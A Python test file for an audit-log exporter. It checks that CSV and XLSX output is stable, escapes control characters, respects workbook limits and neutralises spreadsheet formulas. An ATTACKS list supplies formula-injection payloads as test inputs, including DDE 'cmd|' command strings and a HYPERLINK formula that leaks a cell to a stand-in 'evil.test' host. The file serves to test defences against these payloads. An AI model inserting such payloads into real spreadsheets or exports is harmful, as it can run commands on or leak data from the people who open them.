"""The audit log as a file: the same bytes of the same lines, and nothing in it that a spreadsheet would run."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given, strategies as st
from time_machine import travel
from xlsxwriter.worksheet import Worksheet

from portal.audit.files import (
    COLUMNS,
    KINDS,
    LONGEST_CELL,
    MOST_LINES,
    Kind,
    KindUnknown,
    TooManyLines,
    check_fits,
    kind_of,
    written,
)
from portal.core.chain import START, Entry, sealed
from portal.core.tables import CONTROL, FORMULA

NAUGHTY = Path(__file__).parent.parent / "site" / "naughty" / "blns.json"
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
AT = datetime(2026, 11, 20, 14, 0, 0, 654_321, tzinfo=UTC)


def an_entry(**changes: object) -> Entry:
    entry = Entry(1, START, AT, "Zoé Roy", "dates", 7, "dates.publish", {"edition": 3, "reason": "Été"})
    return sealed(replace(entry, **changes))  # type: ignore[arg-type]  # the names are checked by replace


def csv_cells(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode(), newline=""), strict=True))


def parts(file: bytes) -> dict[str, bytes]:
    """Return what a workbook is made of."""
    with zipfile.ZipFile(io.BytesIO(file)) as book:
        return {name: book.read(name) for name in book.namelist()}


def xlsx_cells(file: bytes) -> list[list[str | float]]:
    """Return the cells of a workbook, as a spreadsheet reads them; one that is neither text nor number fails."""
    sheet = ElementTree.fromstring(parts(file)["xl/worksheets/sheet1.xml"])
    return [[cell_of(cell) for cell in row.iter(f"{SHEET}c")] for row in sheet.iter(f"{SHEET}row")]


def cell_of(cell: ElementTree.Element) -> str | float:
    kind = cell.get("t")
    (held,) = cell
    if kind is None:
        assert held.tag == f"{SHEET}v"
        return float(held.text or "")
    assert (kind, held.tag) == ("inlineStr", f"{SHEET}is")
    text = "".join(held.itertext())
    return re.sub("_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text)  # ECMA-376, 22.9.2.19


WORDS = ["2026-11-20T09:00:00.654321-05:00", "Zoé Roy", "dates.publish", "dates"]
DETAILS = '{"edition": 3, "reason": "Été"}'


def test_a_csv_file_says_all_of_a_line() -> None:
    entry = an_entry()
    assert csv_cells(written("csv", [entry])) == [
        ["number", "at", "person", "action", "subject", "revision", "details", "follows", "hash"],
        ["1", *WORDS, "7", DETAILS, START, entry.hash],
    ]


def test_a_workbook_says_the_same_with_numbers_as_numbers() -> None:
    entry = an_entry()
    heading, line = xlsx_cells(written("xlsx", [entry]))
    assert heading == list(COLUMNS)
    assert line == [1.0, *WORDS, 7.0, DETAILS, START, entry.hash]


@pytest.mark.parametrize("kind", KINDS)
def test_a_log_without_lines_has_its_heading(kind: Kind) -> None:
    cells = csv_cells if kind == "csv" else xlsx_cells
    assert cells(written(kind, [])) == [list(COLUMNS)]


@pytest.mark.parametrize("kind", KINDS)
def test_the_same_lines_are_the_same_bytes_whenever_they_are_written(kind: Kind) -> None:
    entries = [an_entry(number=number) for number in range(1, 50)]
    with travel("2026-11-20T10:00:00-05:00"):
        first = written(kind, entries)
    with travel("2027-03-31T23:59:59-04:00"):
        assert written(kind, iter(entries)) == first


def test_an_instant_that_two_clocks_of_autumn_show_is_told_apart() -> None:
    half_past_one = [datetime(2026, 11, 1, 5, 30, tzinfo=UTC), datetime(2026, 11, 1, 6, 30, tzinfo=UTC)]
    rows = csv_cells(written("csv", [an_entry(at=at) for at in half_past_one]))
    assert [row[1] for row in rows[1:]] == ["2026-11-01T01:30:00.000000-04:00", "2026-11-01T01:30:00.000000-05:00"]


ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "＝1+1",
    "\t=1",
    "\r=1",
    "\n=1",
    "https://evil.test/",
    "mailto:zoe@evil.test",
    "internal:Sheet1!A1",
    "{=1+1}",
    "0012",
    "1e5",
    "nan",
    "TRUE",
    "",
    " ",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_person_and_no_action_is_a_formula(attack: str) -> None:
    entry = an_entry(actor=attack, action=attack)
    _heading, line = csv_cells(written("csv", [entry]))
    guarded = f"'{attack}" if attack.startswith(FORMULA) else attack
    assert (line[2], line[3]) == (guarded, guarded)
    _heading, cells = xlsx_cells(written("xlsx", [entry]))
    assert (cells[2], cells[3]) == (attack, attack)


def test_a_workbook_holds_no_formula_and_no_link() -> None:
    entries = [an_entry(actor=attack, action=attack, details={attack: attack}) for attack in ATTACKS]
    found = parts(written("xlsx", entries))
    sheet = ElementTree.fromstring(found["xl/worksheets/sheet1.xml"])
    assert {cell.get("t") for cell in sheet.iter(f"{SHEET}c")} == {None, "inlineStr"}
    assert not [*sheet.iter(f"{SHEET}f"), *sheet.iter(f"{SHEET}hyperlink")]
    assert not [name for name in found if "external" in name or "worksheets/_rels" in name]


def test_a_text_of_a_workbook_stays_a_text_when_its_cell_is_edited() -> None:
    found = parts(written("xlsx", [an_entry(actor="=1+1")]))
    styles = ElementTree.fromstring(found["xl/styles.xml"]).findall(f"{SHEET}cellXfs/{SHEET}xf")
    _heading, line = ElementTree.fromstring(found["xl/worksheets/sheet1.xml"]).iter(f"{SHEET}row")
    texts = [cell for cell in line if cell.get("t")]
    assert len(texts) == 7
    assert {styles[int(cell.get("s", "0"))].get("quotePrefix") for cell in texts} == {"1"}


def read_back(entries: Sequence[Entry]) -> None:
    _heading, *lines = csv_cells(written("csv", entries))
    _heading, *rows = xlsx_cells(written("xlsx", entries))
    for entry, line, row in zip(entries, lines, rows, strict=True):
        assert json.loads(line[6]) == json.loads(str(row[6])) == entry.details
        assert not CONTROL.search("".join(line))
        person = CONTROL.sub(lambda found: f"\\u{ord(found[0]):04x}", entry.actor)
        assert (line[2].removeprefix("'"), row[2]) == (person.removeprefix("'"), person)


def test_naughty_texts_are_read_back_whole() -> None:
    strings = json.loads(NAUGHTY.read_text("utf-8"))
    read_back([an_entry(actor=string, details={string: string}) for string in strings])


@given(st.text(max_size=80), st.dictionaries(st.text(max_size=20), st.text(max_size=20), max_size=3))
def test_any_text_is_read_back_whole(actor: str, details: dict[str, object]) -> None:
    read_back([an_entry(actor=actor, details=details)])


@pytest.mark.parametrize("text", ["_x0041_", "_x000D_", "__x0041__", "_xFFFF_"])
def test_a_text_that_looks_escaped_is_no_escape(text: str) -> None:
    read_back([an_entry(actor=text, details={text: text})])


def test_controls_and_turned_texts_are_shown_as_they_are() -> None:
    entry = an_entry(actor="a\u202eb\x00c\uffff", details={"text": "\u2066\x9f"})
    for line in (csv_cells(written("csv", [entry]))[1], xlsx_cells(written("xlsx", [entry]))[1]):
        assert (line[2], line[6]) == (r"a\u202eb\u0000c\uffff", r'{"text": "\u2066\u009f"}')


@pytest.mark.parametrize(
    ("actor", "kept"),
    [
        ("é" * LONGEST_CELL, "é" * LONGEST_CELL),
        ("é" * (LONGEST_CELL + 1), "é" * (LONGEST_CELL - 1) + "…"),
        ("😀" * 16_383, "😀" * 16_383),
        ("😀" * 16_384, "😀" * 16_383 + "…"),
        ("a" + "😀" * 16_383 + "b", "a" + "😀" * 16_382 + "…"),
    ],
    ids=["fits", "too long", "pairs fit", "too many pairs", "half a pair"],
)
def test_a_workbook_cuts_what_excel_does_not_hold_and_csv_keeps_it(actor: str, kept: str) -> None:
    entry = an_entry(actor=actor)
    assert xlsx_cells(written("xlsx", [entry]))[1][2] == kept
    assert actor.encode() in written("csv", [entry])


def test_the_limits_are_those_of_a_workbook() -> None:
    sheet = Worksheet()
    assert (sheet.xls_rowmax, sheet.xls_strmax) == (MOST_LINES + 1, LONGEST_CELL)


def test_more_lines_than_a_workbook_holds_are_refused_and_csv_takes_them() -> None:
    check_fits("xlsx", MOST_LINES)
    check_fits("csv", MOST_LINES + 1)
    with pytest.raises(TooManyLines, match="1048576 lines, and a workbook holds 1048575"):
        check_fits("xlsx", MOST_LINES + 1)


@pytest.mark.parametrize(("name", "kind"), [("log.csv", "csv"), ("Journal.XLSX", "xlsx"), (".csv", "csv")])
def test_the_name_of_a_file_says_its_kind(name: str, kind: Kind) -> None:
    assert kind_of(name) == kind


@pytest.mark.parametrize("name", ["log", "csv", "log.xls", "log.csv.gz", "log.xlsx "])
def test_a_name_that_says_no_kind_is_refused(name: str) -> None:
    with pytest.raises(KindUnknown, match=r"ends in \.csv or \.xlsx"):
        kind_of(name)
